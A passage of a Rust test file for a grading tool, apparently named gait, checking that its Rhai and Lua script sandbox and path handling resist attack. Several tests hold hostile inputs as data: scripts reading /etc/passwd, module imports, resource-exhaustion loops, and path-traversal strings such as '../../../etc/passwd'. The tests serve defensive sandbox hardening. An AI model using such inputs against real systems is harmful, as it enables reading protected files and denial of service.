        (Some(5), Some(1))
    );
    let g = grader(&result, "run_demo/attacker").clone();
    assert_eq!(g["status"], "fail");
    assert_eq!(
        g["details"]["output"], "attack starting\n",
        "what it printed is captured"
    );
    g
}

fn assert_limit(g: &Value, limits: &[&str]) {
    assert_eq!(g["reason_codes"], json!(["script_limit_exceeded"]), "{g}");
    let limit = g["details"]["limit"].as_str().unwrap_or("");
    assert!(
        limits.contains(&limit),
        "limit {limit:?} not in {limits:?}: {g}"
    );
}

fn assert_grader_error(g: &Value, needle: &str) {
    assert_eq!(g["reason_codes"], json!(["grader_error"]), "{g}");
    assert!(
        g["details"]["error"].as_str().unwrap().contains(needle),
        "{g}"
    );
}

#[test]
fn rhai_infinite_loop() {
    assert_limit(&attack("loop.rhai", "loop { }"), &["operations"]);
}

#[test]
fn rhai_unbounded_allocation() {
    let g = attack(
        "alloc.rhai",
        "let s = \"xx\"; let all = []; loop { s += s; all.push(s); }",
    );
    assert_limit(&g, &["string_size", "array_size", "memory"]);
}

#[test]
fn rhai_unbounded_recursion() {
    assert_limit(
        &attack("rec.rhai", "fn f(n) { f(n + 1) + 1 } f(0)"),
        &["call_depth"],
    );
}

#[test]
fn rhai_file_read() {
    assert_grader_error(
        &attack("file.rhai", "read_file(\"/etc/passwd\")"),
        "function not found",
    );
}

#[test]
fn rhai_module_import() {
    assert_grader_error(
        &attack(
            "import.rhai",
            "import \"fs\" as fs;\nfs::read(\"/etc/passwd\")",
        ),
        "module imports are not allowed",
    );
}

#[test]
fn lua_infinite_loop() {
    assert_limit(&attack("loop.lua", "while true do end"), &["instructions"]);
}

#[test]
fn lua_unbounded_allocation() {
    let g = attack(
        "alloc.lua",
        "local t = {} local s = 'x' while true do s = s .. s t[#t + 1] = s end",
    );
    assert_limit(&g, &["memory"]);
}

#[test]
fn lua_unbounded_recursion() {
    assert_limit(
        &attack(
            "rec.lua",
            "local function f(n) return f(n + 1) + 1 end return f(0)",
        ),
        &["call_depth"],
    );
}

#[test]
fn lua_file_read() {
    assert_grader_error(
        &attack("file.lua", "return io.open('/etc/passwd'):read('a')"),
        "'io'",
    );
}

#[test]
fn lua_module_import() {
    assert_grader_error(
        &attack("import.lua", "local os = require('os') return os.time()"),
        "'require'",
    );
}

// The acceptance review's reproductions (issue 5): one builtin call allocating far past the limits
// aborted gait (exit 134, no result written); loops of heavy builtins ran for hours.

#[test]
fn rhai_replace_blowup_is_a_limit_not_an_abort() {
    let g = attack(
        "replace.rhai",
        r#"let s = ""; s.pad(100000, "x"); s.replace("x", s); s.len()"#,
    );
    assert_limit(&g, &["string_size"]);
}

#[test]
fn rhai_array_pad_of_big_keyed_maps_is_a_limit_not_an_abort() {
    let g = attack(
        "pad.rhai",
        r#"let k=""; k.pad(1000000,"k"); let m=#{}; m[k]=1; let a=[]; a.pad(90000, m); true"#,
    );
    assert_limit(&g, &["memory"]);
}

#[test]
fn rhai_heavy_builtin_loop_ends_at_the_work_limit() {
    let g = attack(
        "index_of.rhai",
        r#"let s=""; s.pad(1000000,"a"); let t=""; t.pad(500000,"a"); t+="b"; loop { s.index_of(t); }"#,
    );
    assert_limit(&g, &["work"]);
}

#[test]
fn lua_heavy_builtin_loop_ends_at_the_work_limit() {
    let g = attack(
        "rep.lua",
        r#"for i=1,1000000 do local x = string.rep("a", 2^24) end return true"#,
    );
    assert_limit(&g, &["work"]);
    let g = attack(
        "upper.lua",
        r#"local s = string.rep("a", 2^23) for i=1,1000000 do local x = s:upper() end return true"#,
    );
    assert_limit(&g, &["work"]);
}

#[test]
fn paths_in_the_fixture_set_stay_inside_it() {
    let sb = Sandbox::new();
    demo_fixture(&sb);
    let good = sb.read("gait.yaml");
    // The fixture runpack: absolute, or climbing out of the directory of gait.yaml.
    for bad in [
        "../../../etc/passwd",
        "/etc/passwd",
        "fixtures/../../x/runpack.zip",
    ] {
        edit_config(&sb, |c| c["fixtures"][0]["runpack"] = json!(bad));
        let (code, out) = sb.run_json(&["regress", "run", "--json"]);
        assert_eq!(code, 6, "{bad}: {out}");
        let msg = out["error"].as_str().unwrap();
        assert!(msg.contains(bad) && msg.contains("inside"), "{bad}: {out}");
        sb.write("gait.yaml", &good);
    }
    // A script named in gait.yaml, and one named in fixture.json (relative to its directory).
    sb.write("graders/ok.rhai", "true");
    for bad in [
        "/etc/hostname",
        "../outside.rhai",
        "graders/../../outside.rhai",
    ] {
        edit_config(&sb, |c| {
            c["graders"] = json!([{"name": "g", "script": bad, "language": "rhai"}])
        });
        let (code, out) = sb.run_json(&["regress", "run", "--json"]);
        assert_eq!(code, 6, "{bad}: {out}");
        assert!(out["error"].as_str().unwrap().contains(bad), "{out}");
        sb.write("gait.yaml", &good);
    }
    edit_fixture(
        &sb,
        "run_demo",
        |f| {
            f["graders"] =
                json!([{"name": "g", "script": "../../../outside.rhai", "language": "rhai"}])
        },
    );
    let (code, out) = sb.run_json(&["regress", "run", "--json"]);
    assert_eq!(code, 6, "{out}");
    // Inside the set, `..` is fine: the fixture's script one level up from its directory.
    edit_fixture(&sb, "run_demo", |f| {
        f["graders"] = json!([{"name": "g", "script": "../../graders/ok.rhai"}])
    });
    let (code, out) = sb.run_json(&["regress", "run", "--json"]);
    assert_eq!(code, 0, "{out}");
}

#[test]
fn concurrent_adds_lose_no_fixture() {
    // Before the lock, 12 parallel adds left 1 of them listed in gait.yaml: each read the list,
    // added its own fixture and wrote the list back over the others'.
    let sb = Sandbox::new();
    demo_fixture(&sb);
    let outputs: Vec<_> = std::thread::scope(|scope| {
        let handles: Vec<_> = (0..12)
            .map(|i| {
                let sb = &sb;
                scope.spawn(move || {
                    let name = format!("par{i}");
                    sb.gait()
                        .args([
                            "regress", "add", "--from", "run_demo", "--name", &name, "--json",
                        ])
                        .output()
                        .expect("run gait")
                })
            })
            .collect();
        handles.into_iter().map(|h| h.join().unwrap()).collect()
    });
    for out in outputs {
        assert_eq!(
            out.status.code(),
            Some(0),
            "{}",
            String::from_utf8_lossy(&out.stdout)
        );
    }
    let names: BTreeSet<String> = read_json(&sb, "gait.yaml")["fixtures"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["name"].as_str().unwrap().to_string())
        .collect();
    let mut want: BTreeSet<String> = (0..12).map(|i| format!("par{i}")).collect();
    want.insert("run_demo".into());
    assert_eq!(names, want);
    assert!(!sb.join("gait.yaml.lock").exists(), "the lock is released");
}

#[test]
fn reports_into_a_missing_directory_are_refused() {
    // Like the reference's os.WriteFile: a missing parent is an error (exit 6), and nothing —
    // no directory tree, no report — is created.
    let sb = Sandbox::new();
    demo_fixture(&sb);
    for args in [
        ["--junit", "nonexistent/dir/j.xml"],
        ["--output", "nonexistent/dir/r.json"],
    ] {
        let mut all = vec!["regress", "run"];
        all.extend(args);
        all.push("--json");
        let (code, out) = sb.run_json(&all);
        assert_eq!(code, 6, "{args:?}: {out}");
        assert!(
            out["error"].as_str().unwrap().contains("does not exist"),
            "{out}"
        );
        assert!(
            !sb.join("nonexistent").exists(),
            "{args:?} created directories"
        );
    }
    let (code, out) = sb.run_json(&[
        "regress",
        "bootstrap",
        "--from",
        "run_demo",
        "--name",
        "boot",
        "--junit",
        "nope/j.xml",
        "--json",
    ]);
    assert_eq!(code, 6, "{out}");
    assert!(
        !sb.join("fixtures/boot").exists(),
        "checked before the fixture is created"
    );
    // An existing directory is fine.
    std::fs::create_dir(sb.join("reports")).unwrap();
    let (code, out) = sb.run_json(&["regress", "run", "--junit", "reports/j.xml", "--json"]);
    assert_eq!(code, 0, "{out}");
    assert!(sb.join("reports/j.xml").exists());
}

#[test]
fn a_failure_without_reason_codes_reads_failed() {
    let sb = Sandbox::new();
    demo_fixture(&sb);
    sb.write("graders/f.rhai", "false");
    edit_config(&sb, |c| {
        c["graders"] = json!([{"name": "f", "script": "graders/f.rhai"}])
    });
    let (code, out, err) = sb.run(&["regress", "run"]);
    assert_eq!(code, 5, "{out}{err}");
    assert!(out.contains("FAIL run_demo/f: failed"), "{out}");
}
